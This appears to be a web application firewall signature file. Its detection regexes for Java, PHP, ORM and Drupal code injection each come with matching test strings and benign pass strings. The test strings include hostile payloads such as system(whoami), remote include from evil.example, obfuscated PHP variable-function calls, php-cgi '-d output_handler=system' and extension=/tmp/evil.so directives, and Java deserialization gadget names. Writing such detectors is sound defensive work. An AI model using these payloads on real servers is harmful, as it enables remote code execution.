# Server-side code injection, language by language (ids 300005100-300005199): Java class and
# gadget names, serialized Java objects in base64, PHP function calls in every spelling PHP
# accepts (comments and white space before the parenthesis, variable functions, string-built
# names), PHP configuration directives, ORM lookup operators in parameter names.
# Format: see src/waf/signatures/db.rs. Pass examples are drawn from real traffic.

id: 300005100
name: Java code injection: process, runtime and gadget class names
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
unless: url, binary
literal: processbuilder
literal: runtime
literal: java.
literal: transformer
literal: closure
literal: factory
regex: \bprocessbuilder\b|\bjava\.(?:[\w$]+\.){0,4}(?:runtime|processbuilder|processimpl|unixprocess|scriptengine\w*|urlclassloader|classloader|jndi\w*|methodhandles?)\b|\b(?:clone|instantiate|invoker|chained|constant|prototypeclone|prototypeserialization|map|lazy)transformer\b|\b(?:while|for|if|switch|transformer|not|and|or)closure\b|\b(?:instantiate|prototypeclone|prototypeserialization|constant|invoker)factory\b|\bjava\.lang\.(?:reflect|invoke)\.
test: java.Runtime
test: java.evil.runtime
test: ProcessBuilder.evil.clonetransformer
test: java.ProcessBuilder
test: org.apache.commons.collections.functors.InvokerTransformer
pass: Java runtime environment download
pass: runtime error in module
pass: https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html

id: 300005101
name: Java deserialization: serialized object stream in base64 or hex
type: Server Side Code Injection
accuracy: high
risk: high
systems: Java Servlets/JSP
targets: @values, header, url, param-name
literal: ro0ab
literal: kztaau
literal: cs7qaf
literal: aced0005
literal: \xac\xed\x00\x05
regex: (?-i:rO0AB|KztAAU|Cs7QAF)|(?i:\baced0005[0-9a-f]{4})|\xac\xed\x00\x05
test: \xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02F\x00\x0aloadFactorI\x00\x09thresholdxp?@\x00\x00
test: rO0ABQ
test: KztAAU
test: Cs7QAF
test: aced00057372
pass: ro0abc is a username
pass: Jcs7qafx

id: 300005102
name: PHP code injection: dangerous function called, however spelt
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: system
literal: exec
literal: passthru
literal: popen
literal: proc_open
literal: pcntl_exec
literal: assert
literal: eval
literal: create_function
literal: call_user_func
literal: preg_replace
literal: file_get_contents
literal: file_put_contents
literal: fopen
literal: readfile
literal: show_source
literal: highlight_file
literal: phpinfo
literal: base64_decode
literal: gzinflate
literal: str_rot13
literal: unserialize
literal: include
literal: require
literal: unpack
literal: strip_tags
literal: intval
literal: printf
literal: filegroup
literal: fileowner
literal: fputs
literal: fwrite
literal: symlink
literal: chmod
literal: putenv
literal: ini_set
literal: mail
literal: move_uploaded_file
literal: array_map
literal: usort
literal: ob_start
literal: get_defined
literal: gethostbyname
literal: dl(
literal: file
regex: \b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert(?:_options)?|eval|create_function|call_user_func(?:_array)?|preg_replace(?:_callback)?|file_get_contents|file_put_contents|fopen|fsockopen|readfile|show_source|highlight_file|phpinfo|phpversion|php_uname|base64_decode|gzinflate|gzuncompress|str_rot13|unserialize|include(?:_once)?|require(?:_once)?|unpack|strip_tags|intval|filegroup|fileowner|fileperms|fputs|fwrite|symlink|chmod|putenv|ini_set|ini_get|move_uploaded_file|array_map|array_filter|usort|uasort|ob_start|get_defined_vars|get_defined_functions|gethostbyname|getenv|dl|file)(?:\s{2,}|[\t\r\n]\s*|\s*/\*.*?\*/\s*|\s*//[^\n]*\n\s*|\s*#[^\n]*\n\s*)*\((?:\s*\)|\s*[$'"`(\[@]|\s*\w+\s*(?:[^\w\s:]|$)|\s*\w+\s+\w)|\b(?:assert(?:_options)?|eval|system|exec|phpinfo|unserialize|file|unpack|strip_tags)\s+\(\s*\)|\bs?printf\s*\(\s*[$\w]|\b(?:include|require)(?:_once)?\s*(?:\(\s*['"]?|['"])\s*(?:https?|ftps?|php|data|expect|zip|phar|file)://|(?:\(\s*['"]?|['"])\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|show_source|highlight_file|readfile|file_get_contents|file_put_contents|base64_decode|unserialize|gzinflate|str_rot13)(?:\s*['"])?\)?\(|\[\s*['"]\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|readfile|file_get_contents|file_put_contents)\s*['"]\s*\]\s*\)?\s*(?:\[\s*\d+\s*\]\s*)+\(
test: system(whoami)
test: exec  (blah)
test: exec //comment\n (blah)
test: exec #comment\n (blah)
test: FILE\r\n()
test: unpack()
test: printf(foo)
test: phpinfo(foo)
test: assert_OptionS (\n\n)
test: (exec)(id)
test: include('http://evil.example/x.txt')
test: require_once "ftp://203.0.113.9/a.php";
pass: please include https://example.com in the list
test: ("passthru ")("id")
test: return'shell_exec'($c).x
test: (['assert'])[0]($_POST[1]);
test: ["readfile"][0]('/etc/hosts')
pass: the (system) works (mostly)
pass: "eval" (the keyword) is discouraged
pass: the system (as a whole) works
pass: include (optional) extras
pass: printf-style format strings
pass: bookmarked @include(if: $loggedIn)
pass: int main()\r\n{\r\n    printf("hello, world\\n");\r\n}

id: 300005103
name: PHP code injection: variable function and variable variable calls
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
# `$ name` is not PHP (a variable name follows its `$` directly, only `{` may be spaced off):
# it is TeX math in Markdown (`$ \mu(n) $`), which maths sites post whole.
literal: $
regex: @?\$+(?:[a-z_\x7f-\xff][\w\x7f-\xff]*|\s*\{[^}]{0,60}\})(?:\s*(?:\[(?:[^\[\]]|\[[^\[\]]{0,20}\]){0,40}\]|\{[^}]{0,40}\}|->\s*\$?\w+|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n))*\s*\((?:\s*\)|\s*[\d'"$@_]|\s*\w+\s*\))|\b\w+\s*::\s*\$\w+\s*\(|\$\s*\{\s*(?:['"]|\$|@)|\$\s+\{\s*[$'"\w]
test: $a(1)
test: $$b(2)
test: @$__[o](4)
test: $__['o'](5)
test: $__[$_[1]](7)
test: $f[$k['n']]('id')
test: ${'a'}(11)
test: $GLOBALS['cf908275'](14)
test: $OOO000000{0}(15)
test: $_aB_4c[5]['d'] /*lol*/ (17)
test: ${$foo->bar}(200)
test: $foo->$funcname()
test: Foo::$variable()
test: $a //x\n()
test: ${'ff'}
test: $ {'fdf'}
pass: price $5 (five dollars)
pass: $(document).ready(function() {})
pass: Hello ${name}, welcome
pass: | Möbius function | $ \\mu(n) $ | $ 1, -1, -1, 0, -1 $ | Multiplicative |
pass: $$ e^x = \\lim_{n \\to \\infty} \\left( 1+ \\frac{x}{n} \\right)^n. $$

id: 300005104
name: PHP code injection: function name built from strings or brackets, then called
type: Server Side Code Injection
accuracy: medium
risk: high
systems: PHP
targets: @values, header, url, param-name
unless: binary
literal: (
regex: \(\s*(?:/\*.*?\*/\s*)*(?:['"]?[a-z_]\w*['"]?|[\w'"]+\s*\.\s*\(?[\w'"]+\)?(?:\s*\.\s*[\w'"]+)*)\s*(?:/\*.*?\*/\s*)*\)\s*(?:/\*.*?\*/\s*)*\(\s*(?:['"@$]|\w+\s*(?:/\*.*?\*/\s*)*\)\s*;)|['"][a-z_]\w*['"]\s*\(\s*(?:['"$@]|\w+\s*\)\s*;)|\[\s*['"]?[a-z_]\w*['"]?\s*\]\s*(?:\[\s*\d+\s*\]\s*)+\(\s*['"]?\w|['"]\w+['"]\s*\.\s*['"]\w+['"]\s*(?:\.\s*['"]\w+['"]\s*)*[;)]|\(\s*string\s*\)\s*(?:["'{])|\bdefine\s*\(\s*['"]\w+['"]\s*,\s*\[*\s*['"]\w+['"]\s*\.
test: (system)('uname') ;
test: (sy.(st).em)('uname');
test: (string)"system"('uname');
test: [system][0](ls);
test: "system"(ls);
test: $y = 'sys'.'tem';($y)('uname');
test: define('x', 'sys' . 'tem');(x)/* comment */('uname');
pass: (see below) (page 2)
pass: call me (maybe) (tonight)

id: 300005105
name: PHP configuration directive set through a value
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: @values, header, param-name
unless: binary
literal: opcache.
literal: mbstring.
literal: session.
literal: zend.
literal: xdebug.
literal: pcre.
literal: phar.
literal: allow_url_
literal: auto_prepend_file
literal: auto_append_file
literal: disable_functions
literal: open_basedir
literal: extension_dir
literal: memory_limit
literal: max_execution_time
literal: upload_tmp_dir
literal: include_path
literal: sendmail_path
literal: unserialize_max_depth
literal: error_log
literal: register_globals
literal: safe_mode
regex: \b(?:(?:opcache|mbstring|session|zend|xdebug|pcre|phar|mysqli|pdo_mysql|assert|apc|filter|suhosin)\.[a-z_]+|allow_url_(?:fopen|include)|auto_(?:prepend|append)_file|disable_(?:functions|classes)|open_basedir|extension_dir|memory_limit|max_execution_time|upload_tmp_dir|include_path|sendmail_path|unserialize_max_depth|error_log|register_globals|safe_mode|enable_dl|short_open_tag|display_errors|log_errors)\s*=
test: opcache.jit_max_polymorphic_calls=50
test: memory_limit = 512M
test: extension_dir=/path/to/example
test: auto_prepend_file=php://input
pass: memory limit is 512M
pass: session id expired

id: 300005106
name: ORM query injection: lookup operator in a parameter name
type: Injection Attempt
accuracy: medium
risk: medium
targets: param-name
unless: binary
literal: __
regex: [a-z\d]__(?:i?(?:startswith|endswith|contains|exact|regex)|gte?|lte?|in|isnull|range|has_keys?|has_any_keys|contained_by|overlap|search|trigram_similar|unaccent)$
test: username__startswith
test: created_by__departments__employees__user__username__startswith
test: balance__gte
test: roles__contained_by
pass: __VIEWSTATE
pass: utm__source_id

id: 300005107
name: Drupal render-array injection: callback property in a parameter name
type: Server Side Code Injection
accuracy: high
risk: high
systems: PHP
targets: param-name, json, param-value
unless: binary
literal: #
regex: (?:^|\[|/)\s*#(?:post_render|pre_render|lazy_builder|access_callback|value_callback|after_build|element_validate|process)\s*(?:\]|$|/)
test: mail[#post_render][]
test: name[#lazy_builder][0]
test: account/mail/#pre_render
test: #access_callback
pass: mail[#value]
pass: filter[#tag]
pass: section#process-overview
pass: https://example.com/docs#post_render

id: 300005108
name: PHP configuration directive at the start of a value or line (php.ini, .user.ini, php-cgi -d)
# The core directives whose names are ordinary words (`engine`, `extension`, `precision`,
# `SMTP`) are only read as a directive where an ini file or a `-d` switch would hold one: at the
# start of the value, of a line, or after `-d`; 300005105 covers the names no prose uses. Not the
# whole query string or a header, whose own `name=value` pairs start the same way.
type: Server Side Code Injection
accuracy: medium
risk: high
systems: PHP
targets: param-value, cookie, json, xml
unless: binary
literal: engine
literal: extension
literal: precision
literal: smtp
literal: sendmail_from
literal: expose_php
literal: file_uploads
literal: upload_max_filesize
literal: post_max_size
literal: max_input_
literal: output_handler
literal: output_buffering
literal: variables_order
literal: request_order
literal: user_ini.
literal: doc_root
literal: user_dir
literal: cgi.
literal: html_errors
literal: error_reporting
literal: default_charset
literal: mail.
literal: highlight.
literal: implicit_flush
literal: arg_separator.
literal: enable_post_data_reading
literal: auto_detect_line_endings
regex: (?:^|[\r\n;]|(?:^|\s)-d\s*)\s*(?:engine|(?:zend_)?extension|precision|serialize_precision|smtp|smtp_port|sendmail_from|expose_php|file_uploads|upload_max_filesize|post_max_size|max_input_(?:vars|time|nesting_level)|output_(?:handler|buffering)|variables_order|request_order|user_ini\.filename|doc_root|user_dir|cgi\.[a-z_]+|fastcgi\.[a-z_]+|html_errors|error_reporting|default_charset|mail\.[a-z_]+|highlight\.[a-z]+|implicit_flush|arg_separator\.(?:input|output)|enable_post_data_reading|auto_detect_line_endings)\s*=\s*\S
test: engine=true
test: extension=/tmp/evil.so
test: precision = 17
test: SMTP=evil.example
test: -d output_handler=system -d precision=1
test: a=1\nuser_ini.filename=x
pass: engine type=diesel
pass: the extension=.pdf is allowed
pass: precision engineering


id: 300005301
name: PHP code injection: call of a function of PHP's own extension families
type: Server Side Code Injection
accuracy: medium
risk: high
systems: PHP
# Names under these prefixes belong to PHP's standard extensions (arrays, dates, regular
# expressions, streams, process control, resolvers); no other language or prose writes them
# followed by an argument list, so the call is code handed to `eval`, `assert` or a callback,
# whatever the function's own risk.
targets: @values, header, url, param-name
unless: binary
literal: array_
literal: date_
literal: preg_
literal: ctype_
literal: posix_
literal: pcntl_
literal: stream_
literal: gethostby
literal: str_
literal: func_get_arg
literal: mysqli_
literal: get_defined_
literal: htmlspecialchars
literal: highlight_
literal: show_source
literal: php_uname
literal: phpversion
regex: (?:^|[^\w$.>:])(?:array_(?:diff|filter|map|walk|reduce|merge|keys|values|search|slice|splice|pop|push|shift|unshift|flip|fill|combine|intersect|key_exists|column|rand|reverse|sum|product|unique|chunk|pad|replace)\w*|date_(?:add|sub|create|diff|format|parse|default_timezone_\w+|interval_\w+|modify|set\w*|sun\w*|time\w*)|preg_\w+|ctype_\w+|posix_\w+|pcntl_\w+|stream_\w+|gethostby(?:name|namel|addr)|str_(?:replace|ireplace|repeat|rot13|split|pad|shuffle|word_count|getcsv)|func_get_args?|mysqli_\w+|get_defined_(?:vars|functions|constants)|htmlspecialchars\w*|highlight_(?:file|string)|show_source|php_uname|phpversion)\s*\(
test: array_diff (
test: date_ADD()
test: gethostbynamE(
test: ;preg_match('/x/e', $_GET[0]);
test: x=array_map('system', ['id'])
test: php_uname()
pass: thumb_array_diff(
pass: config.array_map
pass: date_added=2024-01-02
pass: array_diff is a PHP function
